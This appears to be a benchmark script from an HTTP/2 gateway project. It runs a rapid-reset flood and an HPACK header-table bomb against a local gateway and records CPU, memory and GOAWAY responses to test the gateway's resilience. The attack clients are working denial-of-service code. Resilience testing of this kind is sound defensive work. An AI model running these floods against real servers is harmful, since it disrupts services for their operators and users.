// bench/hostile/attack.mjs — the hostile HTTP/2 clients of issue 14, measured against one gateway.
//
//   node attack.mjs rapid-reset <port> <seconds> <delayMs> <simUrl> <gatewayPid>
//   node attack.mjs hpack-bomb  <port> <streams> <refs> <gatewayPid>
//
// Prints one JSON line. Rapid reset: HEADERS+DATA+RST_STREAM in a loop on one h2c connection
// (delayMs 0: in batches of 100 written at once; > 0: each reset that long after its request), a new
// connection whenever the gateway ends one; counts streams, connections, GOAWAYs, the engine
// requests ig-sim saw start, the attacker's and the gateway's CPU. HPACK bomb: a 4,000-byte header
// put in the dynamic table, then referenced `refs` times in each of `streams` header blocks held
// open; the gateway's RSS before and after.

import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import { RawH2, requestBlock, headers, data, rst, literalIndexed, indexed, frame, T } from '../../tests/integration/h2raw.mjs';

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const cpuOf = (pid) => { // utime + stime, seconds
  const f = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ');
  return (Number(f[11]) + Number(f[12])) / 100;
};
const rssMb = (pid) => Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))[1]) / 1024;
const simStats = async (url) => (await fetch(`${url}/sim/stats`)).json();
const handled = async (port) => { // requests the gateway saw through (/metrics), whatever became of them
  const t = await (await fetch(`http://127.0.0.1:${port}/metrics`)).text();
  return t.split('\n').filter((l) => l.startsWith('infergate_requests_total{')).reduce((a, l) => a + Number(l.split(' ').pop()), 0);
};
/** TCP connections the gateway opened to the engine and closed: its TIME_WAIT sockets towards it */
const timeWait = (simUrl) => execFileSync('ss', ['-Htan', 'state', 'time-wait', 'dst', new URL(simUrl).host], { encoding: 'utf8' })
  .split('\n').filter(Boolean).length;
/** a write that gives up at the deadline: a gateway that stops reading must not hang the attacker */
const writeBy = (c, b, end) => Promise.race([c.write(b), sleep(Math.max(0, end - Date.now())).then(() => false)]);
const BODY = JSON.stringify({ model: 'chat', messages: [{ role: 'user', content: 'hi' }], max_tokens: 1 });
const CHAT = '/v1/chat/completions';

async function rapidReset(port, seconds, delayMs, simUrl, pid) {
  const sim0 = await simStats(simUrl);
  const handled0 = await handled(port);
  const tw0 = timeWait(simUrl);
  const gw0 = cpuOf(pid);
  const me0 = process.cpuUsage();
  const end = Date.now() + seconds * 1000;
  let streams = 0, conns = 0, goaways = 0, calm = 0;
  const perConn = [];
  while (Date.now() < end) {
    const c = await new RawH2(port).connect();
    conns++;
    let id = 1, sent = 0;
    while (Date.now() < end && !c.closed) {
      if (delayMs === 0) {
        const frames = [];
        for (let i = 0; i < 100; i++, id += 2, sent++) frames.push(headers(id, requestBlock(CHAT)), data(id, BODY), rst(id));
        if (!(await writeBy(c, Buffer.concat(frames), end))) break;
      } else {
        if (!(await writeBy(c, Buffer.concat([headers(id, requestBlock(CHAT)), data(id, BODY)]), end))) break;
        await sleep(delayMs);
        if (!(await writeBy(c, rst(id), end))) break;
        id += 2;
        sent++;
      }
      if (id > 2 ** 31 - 300) break; // stream ids run out: a new connection
    }
    for (let i = 0; i < 50 && !c.closed && Date.now() >= end; i++) await sleep(10); // its GOAWAY, if any
    if (c.goaway) goaways++;
    if (c.goaway?.code === 0xb) calm++;
    perConn.push(c.goaway ? (c.goaway.lastStreamId + 1) / 2 : sent);
    streams += sent;
    c.close();
  }
  const gwCpu = cpuOf(pid) - gw0;
  await sleep(500); // the gateway finishes what it started
  const sim1 = await simStats(simUrl);
  const tw1 = timeWait(simUrl);
  const me = process.cpuUsage(me0);
  return {
    probe: 'rapid-reset', delayMs, seconds, streamsSent: streams, connections: conns, goaways, enhanceYourCalm: calm,
    streamsProcessedPerConnection: Math.round(perConn.reduce((a, b) => a + b, 0) / perConn.length),
    gatewayHandled: (await handled(port)) - handled0, engineRequests: sim1.requests - sim0.requests,
    engineConnections: tw1 - tw0,
    attackerCpuS: +((me.user + me.system) / 1e6).toFixed(2), gatewayCpuS: +gwCpu.toFixed(2),
  };
}

async function hpackBomb(port, streams, refs, pid) {
  const rss0 = rssMb(pid);
  const c = await new RawH2(port).connect();
  const block = Buffer.alloc(refs, indexed(62));
  let opened = 0;
  for (let s = 0; s < streams && !c.closed; s++) {
    const id = 1 + 2 * s;
    const first = s === 0 ? [literalIndexed('x-bomb', 'a'.repeat(4000))] : [];
    // the block and a PING in one write: the answer to the PING says the gateway parsed the block;
    // a gateway that refuses the block has read the PING too, so its GOAWAY is not lost to a reset
    await c.write(Buffer.concat([headers(id, requestBlock(CHAT, { extra: [...first, block] })), frame(T.PING, 0, 0, Buffer.alloc(8))]));
    const want = s + 1;
    while (c.pingAcks < want && !c.closed) await sleep(2);
    if (c.pingAcks >= want && !c.closed) opened++;
  }
  await sleep(300);
  const rss1 = rssMb(pid);
  const out = {
    probe: 'hpack-bomb', streams, refs, streamsHeldOpen: opened, goaway: c.goaway ? c.goaway.code : null,
    rssBeforeMb: +rss0.toFixed(1), rssAfterMb: +rss1.toFixed(1),
  };
  c.close();
  return out;
}

const [probe, ...a] = process.argv.slice(2);
const r = probe === 'rapid-reset'
  ? await rapidReset(Number(a[0]), Number(a[1]), Number(a[2]), a[3], Number(a[4]))
  : await hpackBomb(Number(a[0]), Number(a[1]), Number(a[2]), Number(a[3]));
console.log(JSON.stringify(r));
process.exit(0);
